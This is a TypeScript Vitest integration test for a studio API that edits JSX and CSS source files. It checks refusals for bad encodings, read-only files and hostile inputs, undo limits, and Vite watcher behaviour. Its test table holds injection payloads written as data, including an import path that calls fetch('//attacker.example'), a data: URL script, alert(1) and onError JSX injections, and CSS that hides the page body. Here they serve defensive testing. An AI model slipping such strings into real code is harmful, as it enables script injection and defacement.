/**
 * What the source engine refuses and how it writes, asked through the studio API over real HTTP on loopback, the
 * way the studio page asks: hostile names and values (400 naming the field), a file that is not UTF-8 (422 naming
 * it), one that starts with a byte order mark (edited in place, undone to its bytes), a read-only file (403), the
 * undo history's limit (said in the answer); and what the console's Vite watcher sees of a burst of writes (only the
 * sources, never a temporary file). Every refusal leaves every byte under the folder as it was.
 */
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { createServer as createViteServer, type ViteDevServer } from 'vite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { indexJsxElements, parseJsxSource } from './codebase-ids/index-jsx-elements.js';
import { fileSnapshot } from '../test-support/file-snapshot.js';
import { consoleViteConfig } from './console-vite-config.js';
import { createServer, type StudioServer } from './create-server.js';
import { STUDIO_TOKEN_HEADER, STUDIO_TOKEN_META } from './studio-token.js';

const MOCK = { mode: 'mock', mock: { seed: 1, latencyMs: 0, tokenTtlSeconds: 60 } } as const;
const HISTORY_LIMIT = 3;

const PAGE = `export function Page() {
  return (
    <main className="p-4">
      <h1 title="Vườn">Vườn cao su</h1>
      <p>Lô A</p>
    </main>
  );
}
`;
const BOM_PAGE = `\uFEFFexport const Field = () => <p title="Lô A">Diện tích</p>;\n`;
/** "Café" in Latin-1: the byte 0xE9 alone is not UTF-8. */
const LATIN1_PAGE = Buffer.from('export const Menu = () => <p title="Café">Café</p>;\n', 'latin1');

const FILES: Record<string, string | Buffer> = {
  'console/index.html': '<!doctype html><div id="root"></div><script type="module" src="/src/main.tsx"></script>',
  'console/src/main.tsx': `import { Page } from './page';\nexport const main = <Page />;\n`,
  'console/src/page.tsx': PAGE,
  'console/src/bom.tsx': BOM_PAGE,
  'console/src/latin1.tsx': LATIN1_PAGE,
  'console/src/locked.tsx': 'export const Locked = () => <p>Khoá</p>;\n',
  'console/src/routes/__root.tsx': `import { createRootRoute, Outlet } from '@tanstack/react-router';\nexport const Route = createRootRoute({ component: () => <Outlet /> });\n`,
  'outside/secret.txt': 'outside the root\n',
};


const idOf = (text: string, path: string, tagName: string) =>
  indexJsxElements(parseJsxSource(path, text), path).find((entry) => entry.tagName === tagName)!.id;

describe('the source engine through the studio API', () => {
  let base: string;
  let root: string;
  let app: StudioServer;
  let origin: string;
  let token: string;

  const post = async (path: string, body?: unknown) => {
    const response = await fetch(`${origin}/_studio/api${path}`, {
      method: 'POST',
      headers: { origin, [STUDIO_TOKEN_HEADER]: token, 'content-type': 'application/json' },
      body: body === undefined ? '' : JSON.stringify(body),
    });
    return { status: response.status, json: (await response.json()) as Record<string, unknown> };
  };
  const mutate = (kind: string, body: unknown, canvas = 'writes') => post(`/canvases/${canvas}/parseAndMutate/mutate/${kind}`, body);
  const undo = (canvas = 'writes') => post(`/canvases/${canvas}/parseAndMutate/activities/undoChangeToFiles`);
  const h1 = idOf(PAGE, 'src/page.tsx', 'h1');
  const main = idOf(PAGE, 'src/page.tsx', 'main');

  beforeAll(async () => {
    base = await mkdtemp(join(tmpdir(), 'plantation-studio-writes-'));
    root = join(base, 'console');
    for (const [path, content] of Object.entries(FILES)) {
      await mkdir(join(base, path, '..'), { recursive: true });
      await writeFile(join(base, path), content);
    }
    app = await createServer({ api: MOCK, console: { kind: 'vite', root }, studio: true, historyLimit: HISTORY_LIMIT });
    await app.listen({ port: 0, host: '127.0.0.1' });
    origin = `http://127.0.0.1:${(app.server.address() as AddressInfo).port}`;
    const page = await (await fetch(`${origin}/_studio/`)).text();
    token = new RegExp(`<meta name="${STUDIO_TOKEN_META}" content="([^"]+)">`).exec(page)![1]!;
  });
  afterAll(async () => {
    await app?.close();
    await chmod(join(root, 'src/locked.tsx'), 0o644).catch(() => undefined);
    await rm(base, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
  });

  it.each([
    ['an import path', 'addJsxElement', 'newElement.importPath', { destinationElement: { codebaseId: main }, newElement: { type: 'component', componentName: 'Badge', importPath: "./badge'; fetch('//attacker.example'); '" } }],
    ['an import path loading code from elsewhere', 'addJsxElement', 'newElement.importPath', { destinationElement: { codebaseId: main }, newElement: { type: 'component', componentName: 'Badge', importPath: 'data:text/javascript,alert(1)' } }],
    ['a component name', 'addJsxElement', 'newElement.componentName', { destinationElement: { codebaseId: main }, newElement: { type: 'component', componentName: 'Badge />; alert(1); <X', importPath: './badge' } }],
    ['a native tag', 'addJsxElement', 'newElement.nativeTag', { destinationElement: { codebaseId: main }, newElement: { type: 'native', nativeTag: 'img src=x onError={alert}' } }],
    ['a prop name of a new element', 'addJsxElement', 'propsToSet.onClick={alert}', { destinationElement: { codebaseId: main }, newElement: { type: 'native', nativeTag: 'div' }, propsToSet: { 'onClick={alert}': 'x' } }],
    ['a prop name', 'changePropValue', 'propName', { elementToModify: { codebaseId: h1 }, propName: 'data-x="1" onClick', propValue: 'a' }],
    ['a tag', 'changeElementTag', 'newTag', { elementToModify: { codebaseId: h1 }, newTag: 'h1><script' }],
    ['a class', 'addClass', 'className', { reactElement: { codebaseId: h1 }, className: 'a"}{alert(1)}{"' }],
    ['a class of a class update', 'updateClasses', 'newClasses.0', { reactElement: { codebaseId: main }, oldClasses: ['p-4'], newClasses: ['p-2`${alert(1)}`'] }],
    ['a CSS value', 'styling', 'styling.color', { reactElement: { codebaseId: h1 }, stylingFramework: 'CSS', styling: { color: 'red; } body { display: none' } }],
    ['a CSS property', 'styling', 'styling.color: red; x', { reactElement: { codebaseId: h1 }, stylingFramework: 'Inline', styling: { 'color: red; x': 'blue' } }],
    ['a theme token value', 'themeToken', 'value', { variable: '--color-brand', value: '#fff; } body { display: none', stylesheet: 'src/styles.css' }],
    ['a theme variable outside the theme', 'themeToken', 'variable', { variable: '--x: red; --color-brand', value: '#fff', stylesheet: 'src/styles.css' }],
    ['a Tailwind value that needs quotes', 'styling', 'styling.font-family', { reactElement: { codebaseId: h1 }, stylingFramework: 'Tailwind', styling: { 'font-family': "'Inter'" } }],
  ])('refuses %s with 400 naming the field, writing nothing', async (_name, kind, field, body) => {
    const before = await fileSnapshot(base);
    const answer = await mutate(kind, body);
    expect(answer.status, JSON.stringify(answer.json)).toBe(400);
    expect(answer.json.code).toBe('INVALID_CHANGE');
    expect(answer.json.message).toContain(`${field}: `);
    expect(await fileSnapshot(base)).toEqual(before);
  });

  it('refuses a file that is not UTF-8 with 422 naming it, and keeps its bytes', async () => {
    const before = await fileSnapshot(base);
    const id = idOf(LATIN1_PAGE.toString('latin1'), 'src/latin1.tsx', 'p');
    const answer = await mutate('editText', { element: { codebaseId: id }, oldText: 'Caf\uFFFD', newText: 'Cafe' });
    expect(answer.status).toBe(422);
    expect(answer.json.code).toBe('UNWRITABLE_PATTERN');
    expect(answer.json.message).toContain('src/latin1.tsx');
    expect(answer.json.message).toContain('not UTF-8');
    expect(await fileSnapshot(base)).toEqual(before);
    expect((await readFile(join(root, 'src/latin1.tsx'))).equals(LATIN1_PAGE)).toBe(true);
  });

  it('edits a file with a byte order mark where the change says, keeps the mark, and undoes it to its bytes', async () => {
    const id = idOf(BOM_PAGE, 'src/bom.tsx', 'p');
    const answer = await mutate('styling', { reactElement: { codebaseId: id }, stylingFramework: 'Inline', styling: { color: 'green' } });
    expect(answer.status, JSON.stringify(answer.json)).toBe(200);
    const written = await readFile(join(root, 'src/bom.tsx'), 'utf8');
    expect(written).toBe(BOM_PAGE.replace('title="Lô A">', `title="Lô A" style={{ color: 'green' }}>`));
    expect((await undo()).status).toBe(200);
    expect((await readFile(join(root, 'src/bom.tsx'))).equals(Buffer.from(BOM_PAGE, 'utf8'))).toBe(true);
  });

  it('refuses a read-only file with 403, writing nothing', async () => {
    await chmod(join(root, 'src/locked.tsx'), 0o444);
    const before = await fileSnapshot(base);
    const id = idOf(FILES['console/src/locked.tsx'] as string, 'src/locked.tsx', 'p');
    const answer = await mutate('addClass', { reactElement: { codebaseId: id }, className: 'text-red-700' });
    expect(answer.status, JSON.stringify(answer.json)).toBe(403);
    expect(answer.json.code).toBe('FILE_NOT_WRITABLE');
    expect(answer.json.message).toContain('"src/locked.tsx"');
    expect(answer.json.message).toContain('read-only');
    expect(await fileSnapshot(base)).toEqual(before);
    expect((await stat(join(root, 'src/locked.tsx'))).mode & 0o777).toBe(0o444);
  });

  it(`keeps the last ${HISTORY_LIMIT} changes of a canvas and says so in the answer of the change that drops the oldest`, async () => {
    const notices: unknown[] = [];
    for (const className of ['a1', 'a2', 'a3', 'a4']) {
      const answer = await mutate('addClass', { reactElement: { codebaseId: h1 }, className }, 'limited');
      expect(answer.status).toBe(200);
      notices.push(answer.json.notice);
    }
    expect(notices.slice(0, 3)).toEqual([undefined, undefined, undefined]);
    expect(notices[3]).toMatch(/keeps its last 3 changes/);
    const history = await fetch(`${origin}/_studio/api/canvases/limited/history`);
    const status = (await history.json()) as { done: Array<{ name: string }> };
    expect(status).toMatchObject({ undoCount: HISTORY_LIMIT, redoCount: 0, undone: [] });
    expect(status.done.map((item) => item.name)).toEqual(['Add class', 'Add class', 'Add class']);
    for (let i = 0; i < HISTORY_LIMIT; i += 1) expect((await undo('limited')).status).toBe(200);
    expect(await readFile(join(root, 'src/page.tsx'), 'utf8')).toBe(PAGE.replace('title="Vườn">', 'title="Vườn" className="a1">'));
  });

  describe("the console's Vite watcher during a burst of writes", () => {
    let vite: ViteDevServer;
    const seen: string[] = [];

    beforeAll(async () => {
      // The console's own watch options: what `dev` gives Vite.
      vite = await createViteServer({
        configFile: false,
        root,
        logLevel: 'silent',
        server: { middlewareMode: true, hmr: false, watch: consoleViteConfig({ root, codebaseIds: true }).server?.watch },
        optimizeDeps: { noDiscovery: true, include: [] },
      });
      await new Promise<void>((resolve) => {
        vite.watcher.once('ready', () => resolve());
        setTimeout(resolve, 3000);
      });
      vite.watcher.on('all', (event, file) => seen.push(`${event} ${relative(root, file).split('\\').join('/')}`));
    });
    afterAll(async () => {
      await vite?.close();
    });

    it('sees the source files change and never a temporary file', async () => {
      for (let i = 0; i < 10; i += 1) expect((await mutate('addClass', { reactElement: { codebaseId: main }, className: `b${i}` }, 'burst')).status).toBe(200);
      // As many undos as this server's history keeps.
      for (let i = 0; i < HISTORY_LIMIT; i += 1) {
        const undone = await undo('burst');
        expect(undone.status, JSON.stringify(undone.json)).toBe(200);
      }
      expect((await mutate('styling', { reactElement: { codebaseId: main }, stylingFramework: 'CSS', styling: { gap: '4px' } }, 'burst')).status).toBe(200);
      // The watcher reports after the file system settles: wait until the last write is seen.
      const deadline = Date.now() + 5000;
      while (!seen.includes('add src/page.css') && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
      expect(seen).toContain('change src/page.tsx');
      expect(seen).toContain('add src/page.css');
      // The router's generated tree is Vite's own (its plugin writes it at start).
      expect(seen.filter((entry) => !/ src\/(page\.tsx|page\.css|routeTree\.gen\.ts)$/.test(entry))).toEqual([]);
      // Only the history the changes were recorded in stays there: no temporary file.
      expect((await readdir(join(root, '.plantation-studio'))).sort()).toEqual(['.gitignore', 'history']);
    });
  });
});
